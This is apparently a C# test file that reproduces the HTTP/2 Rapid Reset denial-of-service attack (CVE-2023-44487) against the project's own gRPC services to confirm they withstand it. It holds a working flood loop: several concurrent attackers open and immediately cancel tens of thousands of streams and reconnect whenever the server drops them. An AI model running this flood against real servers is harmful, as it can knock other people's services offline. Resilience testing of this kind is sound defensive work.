using Edda.Testing;
using Edda.Testing.Http2;

namespace Edda.Attacks;

/// <summary>CVE-2023-44487: calls begun and reset at once, so that they never count against the stream limit.</summary>
public sealed class RapidResetTests
{
    private const int Attackers = 4;
    private const int CallsEach = 50_000;
    private const int CallsPerSend = 100;
    private const uint Cancel = 0x8;

    [RequiresTheory(Requirement.PublishedBinaries)]
    [InlineData("gladsheim")]
    [InlineData("loki")]
    public Task Calls_reset_as_soon_as_they_begin(string service) => Siege.WithstandsAsync(
        (address, time) => AttackAsync(address, FrameFlags.EndHeaders | FrameFlags.EndStream, time), service);

    [RequiresTheory(Requirement.PublishedBinaries)]
    [InlineData("gladsheim")]
    [InlineData("loki")]
    public Task Calls_reset_while_their_request_is_awaited(string service) => Siege.WithstandsAsync(
        (address, time) => AttackAsync(address, FrameFlags.EndHeaders, time), service);

    /// <summary>Each has begun a script in a worker by the time it is reset, or waits for its turn.</summary>
    [RequiresFact(Requirement.PublishedBinaries)]
    public Task Calls_reset_while_their_script_runs()
    {
        const string Waiting = """
            [[tool]]
            name = "waiting"
            script = "sleep(60)"
            """;
        byte[] message = [0, 0, 0, 0, 9, 0x0A, 7, .. "waiting"u8];
        byte[] headers = FrameWriter.CallHeaders("/loki.v1.Loki/ExecuteScript");
        return Siege.WithstandsAsync(
            (address, time) => AttackAsync(
                address,
                (writer, stream) => writer.Headers(stream, headers, FrameFlags.EndHeaders).Data(stream, message, FrameFlags.EndStream),
                time),
            "loki",
            Waiting);
    }

    private static Task AttackAsync(string address, FrameFlags flags, CancellationToken time)
    {
        byte[] headers = FrameWriter.CallHeaders("/grpc.health.v1.Health/Check");
        return AttackAsync(address, (writer, stream) => writer.Headers(stream, headers, flags), time);
    }

    private static Task AttackAsync(string address, Func<FrameWriter, uint, FrameWriter> begin, CancellationToken time) =>
        Task.WhenAll(Enumerable.Range(0, Attackers).Select(_ => Task.Run(() => AttackOnceAsync(address, begin, time))));

    private static async Task AttackOnceAsync(
        string address, Func<FrameWriter, uint, FrameWriter> begin, CancellationToken time)
    {
        var writer = new FrameWriter();
        int left = CallsEach;
        while (left > 0 && !time.IsCancellationRequested)
        {
            // A server that hangs up is attacked again at once, on a new connection.
            using RawConnection? connection = await RawConnection.TryOpenAsync(address, time);
            if (connection is null)
            {
                continue;
            }

            uint stream = 1;
            do
            {
                writer.Clear();
                for (int i = 0; i < CallsPerSend; i++, stream += 2)
                {
                    begin(writer, stream).ResetStream(stream, Cancel);
                }

                left -= CallsPerSend;
            }
            while (left > 0 && await connection.TrySendAsync(writer.Written, time));
        }
    }
}
